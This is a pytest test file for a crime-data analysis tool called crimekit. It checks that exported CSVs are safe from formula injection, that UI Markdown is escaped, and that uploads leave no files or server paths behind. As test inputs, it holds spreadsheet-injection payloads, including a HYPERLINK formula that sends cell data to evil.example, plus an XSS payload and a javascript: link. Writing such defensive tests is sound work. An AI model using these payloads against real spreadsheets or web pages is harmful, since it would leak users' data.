"""What crimekit writes and shows when the data is hostile (issue 11, items 3, 9 and 10):
formula-safe CSVs from every command, Markdown-escaped data text in the app, no server paths
and no uploaded files left behind."""

from __future__ import annotations

import re
import tempfile

import numpy as np
import pandas as pd
import pytest

from conftest import ROOT, run_page, unescaped
from crimekit.cli import main
from crimekit.export import to_csv_bytes

FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"open")', "+SUM(1,2)", "@cmd", "-2+3"]
IMAGE = "![x](http://evil.example/x.png)"


@pytest.fixture(scope="module")
def hostile_csv(tmp_path_factory):
    """Two years of incidents whose crime heads, beats and districts are formulas."""
    rng = np.random.default_rng(0)
    n = 3000
    when = pd.Timestamp("2023-01-02") + pd.to_timedelta(rng.integers(0, 2 * 365 * 86400, n), "s")
    df = pd.DataFrame({
        "incident_id": np.arange(n), "occurred_at": when.strftime("%Y-%m-%d %H:%M"),
        "category": np.array(FORMULAS)[rng.integers(0, len(FORMULAS), n)],
        "lat": 12.6 + rng.normal(0, 0.01, n), "lon": 77.6 + rng.normal(0, 0.01, n),
        "beat": np.array(["=B1", "B2", "@B3"])[rng.integers(0, 3, n)], "district": "=D"})
    path = tmp_path_factory.mktemp("hostile") / "incidents.csv"
    df.to_csv(path, index=False)  # the attacker's file, not crimekit's output
    return path


def read_cells(path) -> list:
    """Every cell of a written CSV as text, header included."""
    frame = pd.read_csv(path, dtype=str, keep_default_na=False, header=None)
    return [str(v) for v in frame.to_numpy().ravel()]


def assert_formula_safe(path):
    cells = read_cells(path)
    assert cells, path
    starts = [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")
              or (c.startswith("-") and not _number(c))]
    assert not starts, f"{path.name}: {starts[:3]}"


def _number(text) -> bool:
    try:
        float(text)
        return True
    except ValueError:
        return False


# --- item 3: one formula-safe writer ------------------------------------------------------------

def test_no_csv_is_written_except_through_the_safe_writer():
    files = [ROOT / "app.py", *(ROOT / "ui").glob("*.py"), *(ROOT / "views").glob("*.py"),
             *(ROOT / "crimekit").rglob("*.py")]
    offenders = [f"{p.relative_to(ROOT)}:{i}" for p in files if p.name != "export.py"
                 for i, line in enumerate(p.read_text().splitlines(), 1)
                 if "to_csv(" in line and not line.lstrip().startswith("#")]
    assert offenders == []


def test_alerts_out_is_formula_safe(hostile_csv, tmp_path):
    out = tmp_path / "alerts.csv"
    assert main(["alerts", "--data", str(hostile_csv), "--by", "category", "--out", str(out),
                 "--jobs", "1"]) == 0
    assert_formula_safe(out)
    assert f"'{FORMULAS[0]}" in read_cells(out)


def test_forecast_out_and_details_are_formula_safe(hostile_csv, tmp_path):
    out, details = tmp_path / "forecast.csv", tmp_path / "details.csv"
    assert main(["forecast", "--data", str(hostile_csv), "--by", "beat", "--horizon", "2",
                 "--out", str(out), "--details", str(details), "--jobs", "1"]) == 0
    for path in (out, details):
        assert_formula_safe(path)
        assert "'=B1" in read_cells(path) and "'@B3" in read_cells(path)
    assert pd.read_csv(out)["yhat"].dtype == float  # numbers stay numbers


@pytest.mark.slow
def test_forecast_backtest_out_is_formula_safe(hostile_csv, tmp_path):
    out, backtest = tmp_path / "forecast.csv", tmp_path / "backtest.csv"
    assert main(["forecast", "--data", str(hostile_csv), "--by", "district", "--horizon", "2",
                 "--out", str(out), "--backtest-out", str(backtest), "--jobs", "1"]) == 0
    assert_formula_safe(backtest)
    assert "'=D" in read_cells(backtest)


def test_plan_and_profiles_are_formula_safe(hostile_csv, tmp_path):
    plan = tmp_path / "plan.csv"
    assert main(["plan", "--data", str(hostile_csv), "--officers", "6", "--out", str(plan)]) == 0
    assert_formula_safe(plan)
    assert "'=B1" in read_cells(plan)
    assert main(["profiles", "--data", str(hostile_csv), "--out", str(tmp_path / "p")]) == 0
    written = sorted((tmp_path / "p").glob("*.csv"))
    assert written
    for path in written:
        assert_formula_safe(path)


def test_download_bytes_escape_cells_headers_and_categories():
    df = pd.DataFrame({"=head": ["=1+1", "plain", "-x"], "n": [-1, 2, 3],
                       "cat": pd.Categorical(["@a", "b", "+c"])})
    text = to_csv_bytes(df).decode()
    assert text.splitlines() == ["'=head,n,cat", "'=1+1,-1,'@a", "plain,2,b", "'-x,3,'+c"]


# --- item 9: data text in Markdown -------------------------------------------------------------

def markdown_sources(at) -> list:
    """The Markdown source of everything the run rendered as Markdown (text, alerts, titles,
    labels of expanders, metrics and widgets)."""
    out = []
    for kind in ("title", "header", "subheader", "markdown", "caption", "info", "warning",
                 "error", "success"):
        out += [str(e.value) for e in getattr(at, kind)]
    out += [e.label for e in at.expander] + [m.label for m in at.metric]
    for kind in ("radio", "selectbox", "multiselect", "toggle", "checkbox", "text_input"):
        out += [w.label for w in getattr(at, kind)]
    return out


def assert_no_live_markdown(at):
    for source in markdown_sources(at):
        assert IMAGE not in source, source
        assert not re.search(r"(?<!\\)!(?<!\\)\[", source), source
        assert not re.search(r"(?<!\\)\]\(http", source), source


def test_md_makes_every_payload_plain_text():
    import ui
    payloads = [IMAGE, "[click](javascript:alert(1))", "<img src=x onerror=alert(1)>",
                "**bold** _it_ `code` $x^2$ :red[alarm] :material/home: ~~s~~",
                "# heading\n- list\n1. item", "a\\![x](http://e/y.png)", "http://evil.example"]
    for payload in payloads:
        escaped = ui.md(payload)
        assert "\n" not in escaped
        assert not re.search(r"(?<!\\)[!\[\]()<>*_`$:~#]", escaped.replace("\\\\", "")), escaped
        assert unescaped(escaped) == payload.replace("\n", " ")


@pytest.fixture
def hostile_store(isolated_store, small_city):
    """The small demo city stored with a crime head and a victim group that are Markdown
    images."""
    from crimekit.store import Store
    ds = small_city.dataset
    top = ds.incidents["category"].value_counts().index[0]
    inc = ds.incidents.assign(category=ds.incidents["category"].replace(top, IMAGE))
    persons = ds.persons.assign(sex=ds.persons["sex"].replace("F", IMAGE + " F"))
    from dataclasses import replace
    Store().save(replace(ds, name="hostile", incidents=inc, persons=persons))
    return "hostile"


@pytest.mark.parametrize("section,extra", [
    ("Victims", {"profiles_victim_field": "sex"}),
    ("Place clusters", {}),
])
def test_profiles_page_escapes_group_values_and_cluster_summaries(hostile_store, section, extra):
    at = run_page("views/profiles.py", state={"dataset": hostile_store,
                                              "profiles_section": section, **extra})
    assert not at.exception
    assert_no_live_markdown(at)
    shown = unescaped("\n".join(markdown_sources(at)))
    assert IMAGE in shown  # shown as the characters it is made of


@pytest.mark.parametrize("page", ["trends", "overview", "map"])
def test_captions_with_a_hostile_crime_head_filter_are_escaped(hostile_store, page):
    at = run_page(f"views/{page}.py", state={"dataset": hostile_store, "categories": [IMAGE]})
    assert not at.exception
    assert_no_live_markdown(at)
    assert f"crime heads: {IMAGE}" in unescaped("\n".join(markdown_sources(at)))


def test_data_page_escapes_an_uploaded_file_name(isolated_store):
    name = "![x](http:evil.example?x.png) **b**.csv"  # a file name holds no slash
    at = run_page("views/data.py")
    at.file_uploader(key="uploads").set_value(
        (name, b"date,offence\n2024-01-01,Theft\n", "text/csv")).run()
    assert not at.exception
    assert_no_live_markdown(at)
    assert name in unescaped("\n".join(markdown_sources(at)))  # shown as its characters


# --- item 10: leaks -----------------------------------------------------------------------------

GOOD = (b"incident_id,date,offence,latitude,longitude\n1,2024-03-01 10:00,Theft,12.6,77.6\n"
        b"2,2024-03-02 11:00,Burglary,12.61,77.61\n")


@pytest.fixture
def upload_tmp(tmp_path, monkeypatch):
    """The app's temporary folder, isolated so its upload folders can be counted."""
    folder = tmp_path / "tmp"
    folder.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(folder))
    return folder


def _upload_files(folder) -> list:
    return sorted(p for p in folder.rglob("*") if p.is_file())


def test_uploaded_files_are_deleted_after_import_and_not_rewritten(isolated_store, upload_tmp):
    at = run_page("views/data.py")
    at.file_uploader(key="uploads").set_value(("names.csv", GOOD, "text/csv")).run()
    assert [p.name for p in _upload_files(upload_tmp)] == ["names.csv"]
    for _ in range(3):  # reruns while mapping: one folder, not one per run
        at.run()
    assert len(list(upload_tmp.glob("crimekit-upload-*"))) == 1
    at.text_input(key="import_name").set_value("names")
    at.button(key="import_button").click().run()
    assert not at.exception and "Imported 2 incidents" in unescaped(
        " ".join(s.value for s in at.success))
    assert _upload_files(upload_tmp) == []
    at.run()  # the uploader still lists the file: it is not written again
    assert _upload_files(upload_tmp) == [] and not list(upload_tmp.glob("crimekit-upload-*"))


def test_files_removed_from_the_uploader_are_deleted(isolated_store, upload_tmp):
    at = run_page("views/data.py")
    at.file_uploader(key="uploads").set_value(("a.csv", GOOD, "text/csv")).run()
    assert _upload_files(upload_tmp)
    at.file_uploader(key="uploads").set_value(None).run()
    assert not at.exception
    assert _upload_files(upload_tmp) == [] and not list(upload_tmp.glob("crimekit-upload-*"))


def test_unreadable_upload_message_shows_no_server_path(isolated_store, upload_tmp):
    at = run_page("views/data.py")
    at.file_uploader(key="uploads").set_value(("beats.geojson", b'{"type": "Feature', "x")).run()
    assert not at.exception
    errors = " ".join(e.value for e in at.error)
    assert "beats" in errors and str(upload_tmp) not in errors and "crimekit-upload" not in errors


def test_unknown_dataset_message_shows_no_store_path(isolated_store, capsys):
    assert main(["forecast", "--data", "nope", "--out", "x.csv"]) == 2
    err = capsys.readouterr().err
    assert "No file, folder or stored dataset is called 'nope'" in err
    assert str(isolated_store) not in err


def test_size_messages_use_mb_of_a_million_bytes(tmp_path, capsys):
    path = tmp_path / "big.csv"
    path.write_bytes(GOOD + b"3,2024-03-03 10:00,Theft,12.6,77.6\n" * 60_000)  # ~2.1 MB
    assert main(["ingest", str(path), "--max-mb", "2", "--store", str(tmp_path / "s")]) == 2
    err = capsys.readouterr().err.strip()
    size = path.stat().st_size / 1e6
    assert f"the file is {size:.1f} MB, larger than the limit of 2 MB (MB = 1,000,000 bytes)" \
        in err, err
    assert "max_bytes" not in err and "MiB" not in err and len(err.splitlines()) == 1
    path.write_bytes(b"x" * 2_000_001)
    assert main(["ingest", str(path), "--max-mb", "2", "--store", str(tmp_path / "s")]) == 2
    assert "2,000,001 bytes, larger than the limit of 2,000,000 bytes" in capsys.readouterr().err
